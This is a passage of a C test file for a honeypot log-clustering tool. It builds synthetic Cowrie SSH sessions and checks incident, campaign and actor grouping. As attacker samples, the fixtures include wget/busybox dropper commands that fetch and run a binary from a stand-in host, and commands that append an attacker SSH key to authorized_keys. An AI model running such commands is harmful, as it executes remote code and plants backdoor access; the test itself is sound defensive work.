/* test_cluster.c — the cluster stage end to end and its small parts: Cowrie 2.x logs written
 * here are ingested and mapped into a scratch store, clustered with ap_cluster_run, and the
 * exact groupings are checked through ap_cluster_session_at / ap_cluster_campaign_at: incidents
 * and their gap, strong links (shared download, typed C2 URL), actor-level keys, the same public
 * script run with two toolings, generic identifiers, behaviour, infrastructure (IPv4 /24, IPv6
 * /48, IPv4-mapped), stable numbering across runs, the CSV outputs (headers, ids, formula
 * neutralisation, campaign score), ap_eval_truth, one session id on two sensors, an empty
 * store, and the internals cl_dsu, cl_sort_unique, tokens and cl_assign_ids on hand-built data. */
#include <math.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "actorprint.h"
#include "check.h"
#include "cluster/ids.h"
#include "cluster/model.h"
#include "store/store.h"

#define OK(expr) CHECK_EQ_INT((expr), AP_OK)
#define NEAR(a, b) (fabs((double)(a) - (double)(b)) < 1e-9)

static char dir[4096];
static ap_mapper *mapper;

/* 2024-03-01T00:00:00Z: event times below are seconds from here */
#define BASE INT64_C(1709251200)
#define H (60 * 60)

/* The mdrfckr key blob (tests/golden/understand.sh), written here without a comment so the only
 * thing the two sessions share is the key itself (a comment would also be an echo marker). */
#define KEYBLOB                                                                                  \
    "AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUa" \
    "nUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJ" \
    "Aw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCG" \
    "PK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAs" \
    "PKgAySVKPRK+oRw=="
#define KEY_SHA256 "SHA256:MkYY9qiVsFGBC5WkjoClCkwEFW5iSjcGQF7m4n4H7Cw"

#define SHA_A "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define SHA_B "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
#define SHA_C "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc"
#define SHA_D "dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd"

/* ---- text buffer ---------------------------------------------------------------------------- */

typedef struct buf {
    char *p;
    size_t n, cap;
} buf;

static void bput(buf *b, const char *s, size_t n)
{
    if (b->n + n + 1 > b->cap) {
        size_t ncap = b->cap ? b->cap * 2 : 4096;
        while (ncap < b->n + n + 1)
            ncap *= 2;
        char *p = realloc(b->p, ncap);
        if (!p) {
            fprintf(stderr, "out of memory\n");
            exit(2);
        }
        b->p = p;
        b->cap = ncap;
    }
    memcpy(b->p + b->n, s, n);
    b->n += n;
    b->p[b->n] = '\0';
}

__attribute__((format(printf, 2, 3))) static void bprintf(buf *b, const char *fmt, ...)
{
    char tmp[4096];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(tmp, sizeof tmp, fmt, ap);
    va_end(ap);
    if (n < 0 || (size_t)n >= sizeof tmp) {
        fprintf(stderr, "bprintf: line too long\n");
        exit(2);
    }
    bput(b, tmp, (size_t)n);
}

/* A JSON string literal of s. */
static void bjson(buf *b, const char *s)
{
    bput(b, "\"", 1);
    for (; *s; s++) {
        if (*s == '"' || *s == '\\') {
            char e[2] = {'\\', *s};
            bput(b, e, 2);
        } else if ((unsigned char)*s < 0x20) {
            bprintf(b, "\\u%04x", (unsigned)(unsigned char)*s);
        } else {
            bput(b, s, 1);
        }
    }
    bput(b, "\"", 1);
}

/* ---- Cowrie 2.x lines ------------------------------------------------------------------------ */

static void iso(int64_t sec, char *out, size_t n)
{
    time_t t = (time_t)(BASE + sec);
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(out, n, "%Y-%m-%dT%H:%M:%S.000000Z", &tm);
}

static const char *cur_sensor = "hp1";

static void event(buf *b, const char *sid, const char *ip, int64_t t, const char *eventid,
                  const char *rest)
{
    char ts[64];
    iso(t, ts, sizeof ts);
    bprintf(b,
            "{\"eventid\":\"%s\",\"session\":\"%s\",\"sensor\":\"%s\",\"src_ip\":\"%s\","
            "\"timestamp\":\"%s\"",
            eventid, sid, cur_sensor, ip, ts);
    bput(b, rest, strlen(rest));
    bput(b, "}\n", 2);
}

/* One SSH session. tool k > 0: client "SSH-2.0-Tool_k" with a HASSH of its own; 0: none. */
typedef struct sess {
    const char *sid, *ip;
    int64_t start, dur; /* seconds */
    int tool;
    const char *user, *pass; /* NULL: no login */
    const char *const *cmds;
    size_t ncmds;
    const char *url, *sha; /* NULL: no download */
} sess;

static void write_session(buf *b, const sess *s)
{
    char rest[512];
    snprintf(rest, sizeof rest,
             ",\"src_port\":40000,\"dst_ip\":\"10.0.0.5\",\"dst_port\":22,\"protocol\":\"ssh\"");
    event(b, s->sid, s->ip, s->start, "cowrie.session.connect", rest);
    if (s->tool > 0) {
        snprintf(rest, sizeof rest, ",\"version\":\"SSH-2.0-Tool_%d\"", s->tool);
        event(b, s->sid, s->ip, s->start, "cowrie.client.version", rest);
        snprintf(rest, sizeof rest, ",\"hassh\":\"%032x\",\"hasshAlgorithms\":\"a;b;c;d\"",
                 (unsigned)s->tool * 0x1111u);
        event(b, s->sid, s->ip, s->start, "cowrie.client.kex", rest);
    }
    if (s->user) {
        buf r = {0};
        bput(&r, ",\"username\":", 12);
        bjson(&r, s->user);
        bput(&r, ",\"password\":", 12);
        bjson(&r, s->pass);
        event(b, s->sid, s->ip, s->start + 1, "cowrie.login.success", r.p);
        free(r.p);
    }
    for (size_t i = 0; i < s->ncmds; i++) {
        buf r = {0};
        bput(&r, ",\"input\":", 9);
        bjson(&r, s->cmds[i]);
        event(b, s->sid, s->ip, s->start + 2 + (int64_t)i, "cowrie.command.input", r.p);
        free(r.p);
    }
    if (s->url) {
        buf r = {0};
        bput(&r, ",\"url\":", 7);
        bjson(&r, s->url);
        bprintf(&r, ",\"outfile\":\"dl/%s\",\"shasum\":\"%s\"", s->sha, s->sha);
        event(b, s->sid, s->ip, s->start + s->dur - 1, "cowrie.session.file_download", r.p);
        free(r.p);
    }
    snprintf(rest, sizeof rest, ",\"duration\":%lld", (long long)s->dur);
    event(b, s->sid, s->ip, s->start + s->dur, "cowrie.session.closed", rest);
}

static void write_text(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    if (!f) {
        fprintf(stderr, "cannot write %s\n", path);
        exit(2);
    }
    fputs(text, f);
    fclose(f);
}

static const char *path_in(const char *name)
{
    static char paths[16][4200];
    static int k;
    k = (k + 1) % 16;
    snprintf(paths[k], sizeof paths[k], "%s/%s", dir, name);
    return paths[k];
}

/* Writes the sessions to the log NAME (sensors[i] the sensor of v[i]; NULL: all on "hp1"),
 * ingests and maps them. */
static void ingest_sessions_on(ap_store *st, const char *name, const sess *v,
                               const char *const *sensors, size_t n)
{
    buf b = {0};
    for (size_t i = 0; i < n; i++) {
        cur_sensor = sensors ? sensors[i] : "hp1";
        write_session(&b, &v[i]);
    }
    cur_sensor = "hp1";
    const char *log = path_in(name);
    write_text(log, b.p ? b.p : "");
    free(b.p);
    ap_ingest_options o;
    ap_ingest_options_init(&o);
    o.threads = 1;
    ap_ingest_summary sum;
    OK(ap_ingest(st, &log, 1, &o, &sum));
    CHECK_EQ_INT(sum.bad_lines, 0);
    ap_map_summary ms;
    OK(ap_store_map(st, mapper, 0, &ms));
}

static void ingest_sessions(ap_store *st, const char *name, const sess *v, size_t n)
{
    ingest_sessions_on(st, name, v, NULL, n);
}

static ap_store *open_store(const char *name)
{
    char err[256] = "";
    ap_store *st = NULL;
    ap_status s = ap_store_open(path_in(name), AP_STORE_READ_WRITE, &st, err, sizeof err);
    CHECK_EQ_INT(s, AP_OK);
    if (s != AP_OK) {
        fprintf(stderr, "open %s: %s\n", name, err);
        exit(2);
    }
    return st;
}

static ap_cluster *run(ap_store *st, const ap_cluster_options *o)
{
    char err[256] = "";
    ap_cluster *c = NULL;
    ap_status s = ap_cluster_run(st, o, &c, err, sizeof err);
    CHECK_EQ_INT(s, AP_OK);
    CHECK(c != NULL);
    if (s != AP_OK || !c) {
        fprintf(stderr, "cluster: %s\n", err);
        exit(2);
    }
    return c;
}

/* The clustered session `sid` (incident -1 when it is not in the result); *index its position. */
static ap_cluster_session at_idx(const ap_cluster *c, const char *sid, size_t *index)
{
    ap_cluster_session s;
    size_t n = ap_cluster_summary_of(c)->sessions;
    for (size_t i = 0; i < n; i++) {
        ap_cluster_session_at(c, i, &s);
        if (s.session && !strcmp(s.session, sid)) {
            if (index)
                *index = i;
            return s;
        }
    }
    fprintf(stderr, "  session %s is not in the clustering\n", sid);
    CHECK(0);
    memset(&s, 0, sizeof s);
    s.incident = -1;
    if (index)
        *index = SIZE_MAX;
    return s;
}

static ap_cluster_session at(const ap_cluster *c, const char *sid) { return at_idx(c, sid, NULL); }

static const ap_campaign *campaign_by_id(const ap_cluster *c, int64_t id)
{
    for (size_t i = 0; i < ap_cluster_campaign_count(c); i++)
        if (ap_cluster_campaign_at(c, i)->id == id)
            return ap_cluster_campaign_at(c, i);
    return NULL;
}

/* The store row id of session `sid` (the incident id is the smallest of its sessions'). */
typedef struct id_lookup {
    const char *sid;
    int64_t id;
} id_lookup;

static ap_status on_session_row(void *user, const ap_store_col *c, int nc)
{
    id_lookup *l = user;
    size_t n = strlen(l->sid);
    if (nc >= 10 && c[9].s && (size_t)c[9].n == n && !memcmp(c[9].s, l->sid, n))
        l->id = c[0].i;
    return AP_OK;
}

static int64_t row_id(ap_store *st, const char *sid)
{
    id_lookup l = {sid, -1};
    OK(ap_store_cl_scan_rows(st, AP_CL_SESSIONS, on_session_row, &l));
    return l.id;
}

static char *read_all(const char *path)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    buf b = {0};
    char tmp[4096];
    size_t n;
    while ((n = fread(tmp, 1, sizeof tmp, f)) > 0)
        bput(&b, tmp, n);
    fclose(f);
    if (!b.p)
        bput(&b, "", 0);
    return b.p;
}

/* ---- 1. incidents ---------------------------------------------------------------------------- */

static void test_incidents(void)
{
    /* 203.0.113.5: 20 min gap, then 40 min; 192.0.2.5: exactly 30 min, then 29 min 59 s.
     * a2 is written first so its row id is smaller than a1's although a1 starts earlier. */
    enum { A1_END = 10 * H + 10, A2_END = A1_END + 1210 };
    enum { B4_END = 12 * H + 10, B5_END = B4_END + 1810 };
    const sess v[] = {
        {"a10000000002", "203.0.113.5", A1_END + 1200, 10, 1, NULL, NULL, NULL, 0, NULL, NULL},
        {"a10000000001", "203.0.113.5", 10 * H, 10, 1, NULL, NULL, NULL, 0, NULL, NULL},
        {"a10000000003", "203.0.113.5", A2_END + 2400, 10, 1, NULL, NULL, NULL, 0, NULL, NULL},
        {"b10000000004", "192.0.2.5", 12 * H, 10, 2, NULL, NULL, NULL, 0, NULL, NULL},
        {"b10000000005", "192.0.2.5", B4_END + 1800, 10, 2, NULL, NULL, NULL, 0, NULL, NULL},
        {"b10000000006", "192.0.2.5", B5_END + 1799, 10, 2, NULL, NULL, NULL, 0, NULL, NULL},
    };
    ap_store *st = open_store("incidents.db");
    ingest_sessions(st, "incidents.json", v, sizeof v / sizeof v[0]);
    int64_t id1 = row_id(st, "a10000000001"), id2 = row_id(st, "a10000000002");
    int64_t id3 = row_id(st, "a10000000003"), id4 = row_id(st, "b10000000004");
    int64_t id5 = row_id(st, "b10000000005"), id6 = row_id(st, "b10000000006");
    CHECK(id1 > 0 && id2 > 0 && id3 > 0 && id4 > 0 && id5 > 0 && id6 > 0);
    CHECK(id2 < id1); /* precondition of the "smallest row id, not first session" check */

    ap_cluster_options o;
    ap_cluster_options_init(&o);
    CHECK_EQ_INT(o.gap_us, INT64_C(30) * 60 * 1000000);
    ap_cluster *c = run(st, &o);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->sessions, 6);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->incidents, 4);
    size_t i1, i2, i3;
    ap_cluster_session s1 = at_idx(c, "a10000000001", &i1), s2 = at_idx(c, "a10000000002", &i2),
                       s3 = at_idx(c, "a10000000003", &i3);
    CHECK_EQ_INT(s1.incident, id2); /* 20 min apart: one incident, id = smallest row id */
    CHECK_EQ_INT(s2.incident, id2);
    CHECK_EQ_INT(s3.incident, id3); /* 40 min: a new incident */
    CHECK_EQ_STR(s1.sensor, "hp1");
    CHECK_EQ_STR(s1.src_ip, "203.0.113.5");
    /* sessions of one address in start order */
    CHECK(i1 != SIZE_MAX && i2 == i1 + 1 && i3 == i2 + 1);
    CHECK_EQ_INT(at(c, "b10000000004").incident, id4);
    CHECK_EQ_INT(at(c, "b10000000005").incident, id5); /* exactly 30 min: apart */
    CHECK_EQ_INT(at(c, "b10000000006").incident, id5); /* 29:59: together */
    /* the two incidents of one address with one tooling are one actor (infrastructure) */
    CHECK(s1.actor > 0);
    CHECK_EQ_INT(s3.actor, s1.actor);
    CHECK(at(c, "b10000000004").actor > 0);
    CHECK_EQ_INT(at(c, "b10000000006").actor, at(c, "b10000000004").actor);
    CHECK(at(c, "b10000000004").actor != s1.actor);
    ap_cluster_free(c);

    /* a 50 min gap: one incident per address */
    o.gap_us = INT64_C(50) * 60 * 1000000;
    c = run(st, &o);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->incidents, 2);
    CHECK_EQ_INT(at(c, "a10000000001").incident, id2);
    CHECK_EQ_INT(at(c, "a10000000003").incident, id2);
    CHECK_EQ_INT(at(c, "b10000000005").incident, id4);
    CHECK_EQ_INT(at(c, "b10000000006").incident, id4);
    CHECK_EQ_INT(at(c, "a10000000001").campaign, 0); /* one incident per address: nothing linked */
    CHECK_EQ_INT(at(c, "a10000000001").actor, 0);
    ap_cluster_free(c);

    /* a 10 min gap: every session its own incident */
    o.gap_us = INT64_C(10) * 60 * 1000000;
    c = run(st, &o);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->incidents, 6);
    CHECK_EQ_INT(at(c, "a10000000001").incident, id1);
    CHECK_EQ_INT(at(c, "a10000000002").incident, id2);
    CHECK_EQ_INT(at(c, "b10000000006").incident, id6);
    ap_cluster_free(c);
    ap_store_close(st);
}

/* ---- 2. strong link: a shared download ------------------------------------------------------- */

static void test_strong_download(void)
{
    static const char *const dropper1[] = {
        "cd /tmp; wget http://203.0.113.250/mips; chmod +x mips; ./mips"};
    static const char *const dropper2[] = {
        "cd /tmp || cd /var/run; busybox wget http://203.0.113.250/mips -O m; sh m"};
    const sess v[] = {
        {"c20000000001", "203.0.113.21", 10 * H, 30, 1, NULL, NULL, NULL, 0,
         "http://198.51.100.9/bins.sh", SHA_A},
        {"c20000000002", "192.0.2.22", 14 * H, 30, 1, NULL, NULL, NULL, 0,
         "http://198.51.100.9/bins.sh", SHA_A},
        {"c20000000003", "198.18.5.23", 15 * H, 30, 1, NULL, NULL, NULL, 0,
         "http://198.51.100.10/other.sh", SHA_B},
        /* the same C2 URL typed in two different droppers with two other clients */
        {"c20000000004", "100.80.1.1", 16 * H, 30, 5, "root", "1", dropper1, 1, NULL, NULL},
        {"c20000000005", "100.81.1.1", 17 * H, 30, 6, "root", "2", dropper2, 1, NULL, NULL},
    };
    ap_store *st = open_store("strong.db");
    ingest_sessions(st, "strong.json", v, sizeof v / sizeof v[0]);
    ap_cluster *c = run(st, NULL);
    ap_cluster_session a = at(c, "c20000000001"), b = at(c, "c20000000002"),
                       x = at(c, "c20000000003");
    CHECK(a.campaign > 0);
    CHECK_EQ_INT(b.campaign, a.campaign);
    CHECK(a.actor > 0);
    CHECK_EQ_INT(b.actor, a.actor);
    CHECK_EQ_INT(x.campaign, 0);
    CHECK_EQ_INT(x.actor, 0);
    CHECK(a.incident != b.incident);
    ap_cluster_session g1 = at(c, "c20000000004"), g2 = at(c, "c20000000005");
    CHECK(g1.campaign > 0);
    CHECK_EQ_INT(g2.campaign, g1.campaign);
    CHECK(g1.campaign != a.campaign);
    CHECK_EQ_INT(g2.actor, g1.actor);
    CHECK(g1.actor != a.actor);
    const ap_cluster_summary *sum = ap_cluster_summary_of(c);
    CHECK_EQ_INT(sum->incidents, 5);
    CHECK_EQ_INT(sum->campaigns, 2);
    CHECK_EQ_INT(sum->actors, 2);
    CHECK_EQ_INT(sum->linked_incidents, 4);
    CHECK_EQ_INT(sum->strong_identifiers, 5); /* URL, host, file hash; typed URL and its host */
    CHECK_EQ_INT(sum->generic_identifiers, 0);
    CHECK_EQ_INT(ap_cluster_campaign_count(c), 2);
    const ap_campaign *k = campaign_by_id(c, a.campaign);
    CHECK(k != NULL);
    if (k) {
        CHECK_EQ_INT(k->id, a.campaign);
        CHECK_EQ_INT(k->actor, a.actor);
        CHECK_EQ_INT(k->incidents, 2);
        CHECK_EQ_INT(k->sessions, 2);
        CHECK_EQ_INT(k->ips, 2);
        CHECK_EQ_STR(k->urls, "http://198.51.100.9/bins.sh");
        CHECK_EQ_STR(k->techniques, "T1105");
    }
    CHECK(ap_cluster_campaign_at(c, 2) == NULL);
    k = campaign_by_id(c, g1.campaign);
    CHECK(k && k->urls && !strcmp(k->urls, "http://203.0.113.250/mips"));
    ap_cluster_free(c);
    ap_store_close(st);
}

/* ---- 3. actor-level key ---------------------------------------------------------------------- */

static void test_actor_key(void)
{
    static const char *const script1[] = {
        "cd ~; mkdir -p ~/.ssh; echo \"ssh-rsa " KEYBLOB "\" > ~/.ssh/authorized_keys",
        "uname -a"};
    static const char *const script2[] = {"echo ssh-rsa " KEYBLOB " >> .ssh/authorized_keys",
                                          "crontab -l", "w"};
    static const char *const script3[] = {"uname -a", "crontab -l"};
    const sess v[] = {
        {"d30000000001", "203.0.113.31", 10 * H, 60, 1, "root", "x1", script1, 2, NULL, NULL},
        {"d30000000002", "192.0.2.32", 20 * H, 60, 2, "admin", "x2", script2, 3, NULL, NULL},
        {"d30000000003", "198.18.7.33", 22 * H, 60, 3, "user", "x3", script3, 2, NULL, NULL},
    };
    ap_store *st = open_store("key.db");
    ingest_sessions(st, "key.json", v, sizeof v / sizeof v[0]);
    ap_cluster *c = run(st, NULL);
    ap_cluster_session a = at(c, "d30000000001"), b = at(c, "d30000000002"),
                       x = at(c, "d30000000003");
    CHECK(a.actor > 0);
    CHECK_EQ_INT(b.actor, a.actor);
    CHECK(a.campaign > 0); /* an incident of an actor always has a campaign */
    CHECK(b.campaign > 0);
    CHECK_EQ_INT(x.actor, 0);
    CHECK_EQ_INT(x.campaign, 0);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->actors, 1);
    const ap_campaign *k = campaign_by_id(c, a.campaign);
    CHECK(k != NULL);
    if (k) {
        CHECK_EQ_STR(k->keys, KEY_SHA256);
        CHECK_EQ_INT(k->actor, a.actor);
    }
    ap_cluster_free(c);
    ap_store_close(st);
}

/* ---- 4 and 6. one public script: same tooling links, other tooling does not ------------------ */

static const char *const public_script[] = {
    "uname -a",   "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "crontab -l",
    "w",          "lscpu | grep Model",                    "df -h",
};
#define NSCRIPT (sizeof public_script / sizeof public_script[0])

static void test_script(void)
{
    const sess v[] = {
        /* same client, different /24, different credentials: one campaign (behaviour) */
        {"e40000000001", "203.0.113.41", 10 * H, 60, 1, "root", "admin", public_script, NSCRIPT,
         NULL, NULL},
        {"e40000000002", "192.0.2.42", 15 * H, 60, 1, "admin", "pw2", public_script, NSCRIPT,
         NULL, NULL},
        /* the same script and credentials with another tool from another /24: another actor */
        {"e40000000003", "198.18.4.43", 16 * H, 60, 2, "root", "admin", public_script, NSCRIPT,
         NULL, NULL},
    };
    ap_store *st = open_store("script.db");
    ingest_sessions(st, "script.json", v, sizeof v / sizeof v[0]);
    ap_cluster *c = run(st, NULL);
    ap_cluster_session a = at(c, "e40000000001"), b = at(c, "e40000000002"),
                       x = at(c, "e40000000003");
    CHECK(a.campaign > 0);
    CHECK_EQ_INT(b.campaign, a.campaign);
    CHECK(a.actor > 0);
    CHECK_EQ_INT(b.actor, a.actor);
    CHECK_EQ_INT(x.campaign, 0);
    CHECK_EQ_INT(x.actor, 0);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->strong_identifiers, 0);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->campaigns, 1);
    ap_cluster_free(c);
    ap_store_close(st);
}

/* ---- 5. generic identifiers ------------------------------------------------------------------ */

static void test_generic(void)
{
    /* four toolings, one each (top share 25 %): the URL, its host and the hash are generic */
    const char *ips[] = {"203.0.113.51", "192.0.2.52", "198.18.5.53", "198.19.5.54"};
    const char *sids[] = {"f50000000001", "f50000000002", "f50000000003", "f50000000004"};
    sess v[4];
    for (int i = 0; i < 4; i++)
        v[i] = (sess){sids[i], ips[i], (10 + i) * H, 30, i + 1, NULL, NULL, NULL, 0,
                      "http://198.51.100.77/public.tgz", SHA_C};
    ap_store *st = open_store("generic.db");
    ingest_sessions(st, "generic.json", v, 4);
    ap_cluster *c = run(st, NULL);
    for (int i = 0; i < 4; i++) {
        CHECK_EQ_INT(at(c, sids[i]).campaign, 0);
        CHECK_EQ_INT(at(c, sids[i]).actor, 0);
    }
    CHECK_EQ_INT(ap_cluster_summary_of(c)->strong_identifiers, 3);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->generic_identifiers, 3);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->campaigns, 0);
    CHECK_EQ_INT(ap_cluster_campaign_count(c), 0);
    ap_cluster_free(c);
    ap_store_close(st);

    /* ten incidents, five toolings, one holding exactly 60 %: not generic, all one campaign */
    char ipbuf[10][32], sidbuf[10][16];
    sess w[10];
    for (int i = 0; i < 10; i++) {
        snprintf(ipbuf[i], sizeof ipbuf[i], "100.%d.7.%d", 64 + i, 10 + i);
        snprintf(sidbuf[i], sizeof sidbuf[i], "f6%010d", i);
        w[i] = (sess){sidbuf[i], ipbuf[i], (10 + i) * H, 30, i < 6 ? 1 : i - 4, NULL, NULL,
                      NULL, 0, "http://198.51.100.78/kit.tgz", SHA_D};
    }
    st = open_store("generic60.db");
    ingest_sessions(st, "generic60.json", w, 10);
    c = run(st, NULL);
    int64_t camp = at(c, sidbuf[0]).campaign;
    CHECK(camp > 0);
    for (int i = 1; i < 10; i++)
        CHECK_EQ_INT(at(c, sidbuf[i]).campaign, camp);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->generic_identifiers, 0);
    ap_cluster_free(c);
    ap_store_close(st);

    /* ten incidents, six toolings, the largest holding 50 %: generic; the five with other
     * toolings stay apart (the five with one tooling are joined by behaviour, not by it) */
    for (int i = 0; i < 10; i++) {
        snprintf(sidbuf[i], sizeof sidbuf[i], "f7%010d", i);
        w[i].sid = sidbuf[i];
        w[i].tool = i < 5 ? 1 : i - 3;
    }
    st = open_store("generic50.db");
    ingest_sessions(st, "generic50.json", w, 10);
    c = run(st, NULL);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->generic_identifiers, 3);
    for (int i = 5; i < 10; i++) {
        CHECK_EQ_INT(at(c, sidbuf[i]).campaign, 0);
        CHECK_EQ_INT(at(c, sidbuf[i]).actor, 0);
    }
    CHECK(at(c, sidbuf[0]).campaign > 0);
    for (int i = 1; i < 5; i++)
        CHECK_EQ_INT(at(c, sidbuf[i]).campaign, at(c, sidbuf[0]).campaign);
    ap_cluster_free(c);
    ap_store_close(st);
}

/* ---- 7. infrastructure ----------------------------------------------------------------------- */

static void test_infrastructure(void)
{
    const sess v[] = {
        {"a70000000001", "198.51.100.71", 10 * H, 5, 1, "root", "123456", NULL, 0, NULL, NULL},
        {"a70000000002", "198.51.100.72", 14 * H, 5, 1, "admin", "admin", NULL, 0, NULL, NULL},
        /* same /24, another client: not linked */
        {"a70000000003", "198.51.100.73", 15 * H, 5, 2, "user", "user", NULL, 0, NULL, NULL},
        /* same client, another /24: not linked */
        {"a70000000004", "203.0.113.74", 16 * H, 5, 1, "pi", "raspberry", NULL, 0, NULL, NULL},
        /* IPv6: one /48 with one client is one actor; an IPv4-mapped address is its IPv4 /24 */
        {"a70000000005", "2001:db8:1:2::5", 17 * H, 5, 3, "root", "toor", NULL, 0, NULL, NULL},
        {"a70000000006", "2001:db8:1:ff::6", 18 * H, 5, 3, "root", "root", NULL, 0, NULL, NULL},
        {"a70000000007", "2001:db8:2::7", 19 * H, 5, 3, "root", "1234", NULL, 0, NULL, NULL},
        {"a70000000008", "::ffff:198.51.100.78", 20 * H, 5, 1, "git", "git", NULL, 0, NULL, NULL},
    };
    ap_store *st = open_store("infra.db");
    ingest_sessions(st, "infra.json", v, sizeof v / sizeof v[0]);
    ap_cluster *c = run(st, NULL);
    ap_cluster_session a = at(c, "a70000000001"), b = at(c, "a70000000002");
    CHECK(a.actor > 0);
    CHECK_EQ_INT(b.actor, a.actor);
    CHECK(a.campaign > 0);
    CHECK_EQ_INT(b.campaign, a.campaign); /* an actor of lone incidents is one campaign */
    CHECK_EQ_INT(at(c, "a70000000003").actor, 0);
    CHECK_EQ_INT(at(c, "a70000000003").campaign, 0);
    CHECK_EQ_INT(at(c, "a70000000004").actor, 0);
    CHECK_EQ_INT(at(c, "a70000000004").campaign, 0);
    CHECK(at(c, "a70000000005").actor > 0);
    CHECK_EQ_INT(at(c, "a70000000006").actor, at(c, "a70000000005").actor);
    CHECK(at(c, "a70000000005").actor != a.actor);
    CHECK_EQ_INT(at(c, "a70000000007").actor, 0);
    CHECK_EQ_INT(at(c, "a70000000008").actor, a.actor);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->actors, 2);
    ap_cluster_free(c);
    ap_store_close(st);
}

/* ---- 8. stable ids --------------------------------------------------------------------------- */

#define NSTABLE 8
static const char *const stable_sids[NSTABLE] = {"b80000000001", "b80000000002", "b80000000003",
                                                 "b80000000004", "b80000000005", "b80000000006",
                                                 "b80000000007", "b80000000008"};

static void snapshot(const ap_cluster *c, int64_t out[NSTABLE][3])
{
    for (int i = 0; i < NSTABLE; i++) {
        ap_cluster_session s = at(c, stable_sids[i]);
        out[i][0] = s.incident;
        out[i][1] = s.campaign;
        out[i][2] = s.actor;
    }
}

static void test_stable_ids(void)
{
    const char *url_x = "http://198.51.100.81/x.sh", *url_y = "http://198.51.100.82/y.sh",
               *url_z = "http://198.51.100.83/z.sh", *url_w = "http://198.51.100.84/w.sh";
    const sess first[] = {
        {stable_sids[0], "203.0.113.81", 10 * H, 30, 1, NULL, NULL, NULL, 0, url_x, SHA_A},
        {stable_sids[1], "192.0.2.82", 11 * H, 30, 1, NULL, NULL, NULL, 0, url_x, SHA_A},
        {stable_sids[2], "198.18.8.83", 12 * H, 30, 2, NULL, NULL, NULL, 0, url_y, SHA_B},
        {stable_sids[3], "198.19.8.84", 13 * H, 30, 2, NULL, NULL, NULL, 0, url_y, SHA_B},
        {stable_sids[4], "100.70.0.1", 14 * H, 30, 3, NULL, NULL, NULL, 0, NULL, NULL},
    };
    ap_store *st = open_store("stable.db");
    ingest_sessions(st, "stable1.json", first, sizeof first / sizeof first[0]);
    ap_cluster *c = run(st, NULL);
    /* new components are numbered in order of first activity */
    CHECK_EQ_INT(at(c, stable_sids[0]).campaign, 1);
    CHECK_EQ_INT(at(c, stable_sids[1]).campaign, 1);
    CHECK_EQ_INT(at(c, stable_sids[2]).campaign, 2);
    CHECK_EQ_INT(at(c, stable_sids[3]).campaign, 2);
    CHECK_EQ_INT(at(c, stable_sids[0]).actor, 1);
    CHECK_EQ_INT(at(c, stable_sids[3]).actor, 2);
    CHECK_EQ_INT(at(c, stable_sids[4]).campaign, 0);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->kept_campaign_ids, 0);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->kept_actor_ids, 0);
    ap_cluster_free(c);

    /* more data: x extended by a third address; z is new (and older than everything: backfill) */
    const sess more[] = {
        {stable_sids[5], "100.64.0.10", 34 * H, 30, 1, NULL, NULL, NULL, 0, url_x, SHA_A},
        {stable_sids[6], "100.65.0.10", -14 * H, 30, 3, NULL, NULL, NULL, 0, url_z, SHA_C},
        {stable_sids[7], "100.66.0.10", -13 * H, 30, 3, NULL, NULL, NULL, 0, url_z, SHA_C},
    };
    ingest_sessions(st, "stable2.json", more, sizeof more / sizeof more[0]);
    c = run(st, NULL);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->sessions, 8);
    CHECK_EQ_INT(at(c, stable_sids[0]).campaign, 1);
    CHECK_EQ_INT(at(c, stable_sids[5]).campaign, 1);
    CHECK_EQ_INT(at(c, stable_sids[5]).actor, 1);
    CHECK_EQ_INT(at(c, stable_sids[2]).campaign, 2);
    CHECK_EQ_INT(at(c, stable_sids[2]).actor, 2);
    CHECK_EQ_INT(at(c, stable_sids[6]).campaign, 3); /* above the old maximum */
    CHECK_EQ_INT(at(c, stable_sids[7]).campaign, 3);
    CHECK_EQ_INT(at(c, stable_sids[6]).actor, 3);
    CHECK_EQ_INT(at(c, stable_sids[4]).campaign, 0);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->kept_campaign_ids, 2);
    CHECK_EQ_INT(ap_cluster_summary_of(c)->kept_actor_ids, 2);
    const ap_campaign *k = campaign_by_id(c, 1);
    CHECK(k && k->incidents == 3);
    int64_t before[NSTABLE][3], after[NSTABLE][3];
    snapshot(c, before);
    ap_cluster_free(c);

    /* again without new data: the same assignment, every number kept */
    c = run(st, NULL);
    snapshot(c, after);
    CHECK(!memcmp(before, after, sizeof before));
